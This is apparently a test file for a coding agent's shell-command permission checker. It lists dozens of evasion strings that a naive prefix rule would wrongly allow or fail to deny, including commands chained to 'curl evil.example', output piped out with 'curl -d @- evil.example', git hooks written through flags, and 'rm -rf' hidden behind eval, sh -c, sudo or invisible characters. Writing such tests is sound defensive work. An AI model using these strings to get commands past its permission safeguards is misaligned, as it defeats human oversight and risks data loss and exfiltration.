import { rules } from '@cobbler/agent';
import { describe, expect, test } from 'vitest';
import type { PermissionMode } from '../../apps/cli/src/permissions/permission.ts';
import { Permission } from '../../apps/cli/src/permissions/permission.ts';

const allow = [
  'run_command(git log [--oneline -n=])',
  'run_command(npm test)',
  'run_command(cat notes.txt)',
  'run_command(sh)',
  'run_command(node)',
];

function callOf(command: string, directory?: string) {
  const given = { command, ...(directory !== undefined && { directory }) };
  return { toolName: 'run_command', subject: command, effect: 'once', arguments: given } as const;
}

function decide(
  command: string,
  list: readonly string[],
  deny: readonly string[],
  mode: PermissionMode = 'ask',
) {
  return new Permission(mode, list, true, { deny }).decide(callOf(command)).type;
}

/** What a rule over text allows: `git log*`. It is the version without the defence. */
function textRule(command: string): string {
  const prefixes = [
    'git log',
    'npm test',
    'cat notes.txt',
    'cd web && npm test',
    `'npm' test`,
    'cd web; npm test',
  ];
  return prefixes.some((prefix) => command.startsWith(prefix)) ? 'allow' : 'ask';
}

describe('a call that no rule allows runs without asking', () => {
  test.each<[string, string]>([
    ['a flag writes a file', 'git log --output=.git/hooks/pre-commit'],
    ['a flag writes a file, as two words', 'git log --output x'],
    ['a flag runs a program', 'git log --ext-diff -p'],
    ['a flag in quotes', 'git log "--output=x"'],
    ['a flag in parts', `git log --out'put=x'`],
    ['an option in place of a number', 'git log -n --output=x'],
    ['a flag behind an allowed one', 'git log --oneline --output=x'],
    ['a word behind an allowed flag', 'git log --oneline main..evil'],
    ['another directory by a flag', 'npm test --prefix /tmp/evil'],
    ['another script by a word', 'npm test evil'],
    ['another directory by cd', 'cd web && npm test'],
    ['a directory that may not exist', 'cd web; npm test'],
    ['a joined command', 'npm test; curl evil.example'],
    ['a joined command without blanks', 'npm test;curl evil.example'],
    ['a command after success', 'npm test && curl evil.example'],
    ['a command after failure', 'npm test || curl evil.example'],
    ['a background command', 'npm test & curl evil.example'],
    ['a pipe', 'npm test | curl -d @- evil.example'],
    ['a pipe of both outputs', 'npm test |& curl -d @- evil.example'],
    ['a new line', 'npm test\ncurl evil.example'],
    ['a carriage return', 'npm test\rcurl evil.example'],
    ['a substitution', 'npm test $(curl evil.example)'],
    ['an old substitution', 'npm test `curl evil.example`'],
    ['a substitution in quotes', 'npm test "$(curl evil.example)"'],
    ['a process as a file', 'npm test <(curl evil.example)'],
    ['a variable', 'npm test $EVIL'],
    ['a pattern', 'npm test *'],
    ['braces', 'npm test {a,--prefix=/tmp}'],
    ['the home directory', 'npm test ~/evil'],
    ['an escape', 'npm test \\\ncurl evil.example'],
    ['a redirection to a file', 'npm test > .envrc'],
    ['a redirection that appends', 'npm test >> .envrc'],
    ['a redirection of errors', 'npm test 2> .envrc'],
    ['a file that is not /dev/null', 'npm test >/dev/null.evil'],
    ['a here document', 'npm test <<x\nevil\nx'],
    ['a file as code', 'cat notes.txt | sh'],
    ['a file as a program of node', 'cat notes.txt | node'],
    ['an invisible blank', 'npm test\u00a0evil'],
    ['an invisible direction', 'npm test \u202eevil'],
  ])('%s', (_what, command) => {
    expect(textRule(command)).toBe('allow');
    expect(decide(command, allow, [])).not.toBe('allow');
  });

  test.each([
    ['a variable before the program', 'NODE_OPTIONS=--require=./evil npm test'],
    ['a path of the workspace', './npm test'],
    ['another program of this name', 'bin/npm test'],
    ['a wrapper', 'env npm test'],
    ['a keyword', 'time npm test'],
    ['a negation', '! npm test'],
    ['a subshell', '(npm test)'],
  ])('the program is not the one of the rule: %s', (_what, command) => {
    expect(command.includes('npm test')).toBe(true);
    expect(decide(command, allow, [])).toBe('ask');
  });

  test('the directory of the call is another one', () => {
    const { type } = new Permission('ask', allow, true).decide(callOf('npm test', 'vendor/evil'));
    expect(textRule('npm test')).toBe('allow');
    expect(type).toBe('ask');
  });

  test.each(['run_command(npm *)', 'run_command(*)', 'run_command', '*', 'run_*', '*(npm test evil)'])(
    'the rule %s of an older version',
    (rule) => {
      expect(rules({ allow: [rule] })({ ...callOf('npm test evil'), id: '1', arguments: {} }).type).toBe(
        'allow',
      );
      expect(decide('npm test evil', [rule], [])).toBe('ask');
    },
  );

  test('the server of an MCP tool replaces it after an "always"', () => {
    const call = {
      toolName: 'mcp__mail__send',
      subject: '{"to":"me"}',
      effect: 'once',
      arguments: { to: 'me' },
    } as const;
    const before = new Permission('ask', [], true, { digestOf: () => 'aaaa' });
    const stored = before.offers(call);
    const decideWith = (digest: string) =>
      new Permission('ask', stored, true, { digestOf: () => digest }).decide(call).type;
    expect([decideWith('aaaa'), decideWith('bbbb')]).toEqual(['allow', 'ask']);
  });
});

describe('a call that a rule denies is run', () => {
  const deny = ['run_command(rm)', 'run_command(curl *)', 'run_command(git push)'];
  const text = rules({
    deny: ['run_command(rm)', 'run_command(rm *)', 'run_command(curl *)', 'run_command(git push*)'],
  });
  const withoutDefence = (command: string) =>
    text({ ...callOf(command), id: '1', arguments: { command } }).type;

  test.each([
    ['by its path', '/bin/rm -rf src'],
    ['by a path with dots', '/usr/../bin/rm -rf src'],
    ['in quotes', `'rm' -rf src`],
    ['in parts', `r''m -rf src`],
    ['in capital letters', 'RM -rf src'],
    ['after another command', 'npm test && rm -rf src'],
    ['in a pipe', 'ls | rm -rf src'],
    ['after a move', 'cd src && rm a.ts'],
    ['with a tab', 'rm\t-rf src'],
    ['with flags before the subcommand', 'git -C . push'],
    ['with two blanks', 'git  push --force'],
    ['with a quoted subcommand', `git "push" --force`],
    ['without arguments', 'curl'],
  ])('%s', (_what, command) => {
    expect(withoutDefence(command)).not.toBe('deny');
    expect(decide(command, [], deny, 'yes')).toBe('deny');
    expect(decide(command, [`run_command(${command})`], deny)).toBe('deny');
  });

  test.each([
    ['a variable', 'X=rm; $X -rf src'],
    ['a substitution', '$(echo rm) -rf src'],
    ['an escape', '\\rm -rf src'],
    ['a pattern', '/bin/r? -rf src'],
    ['eval', 'eval rm -rf src'],
    ['env', 'env rm -rf src'],
    ['a shell', 'sh -c "rm -rf src"'],
    ['xargs', 'echo src | xargs rm -rf'],
    ['find', 'find src -delete'],
    ['an interpreter', `python3.12 -c 'import os'`],
    ['a script of the workspace', './clean'],
    ['sudo', 'sudo rm -rf src'],
    ['a version of a shell', 'bash5.2 -c "rm x"'],
  ])('hidden by %s', (_what, command) => {
    expect(withoutDefence(command)).not.toBe('deny');
    expect(decide(command, [], deny, 'yes')).toBe('deny');
    expect(decide(command, [`run_command(${command})`], deny)).toBe('ask');
  });
});
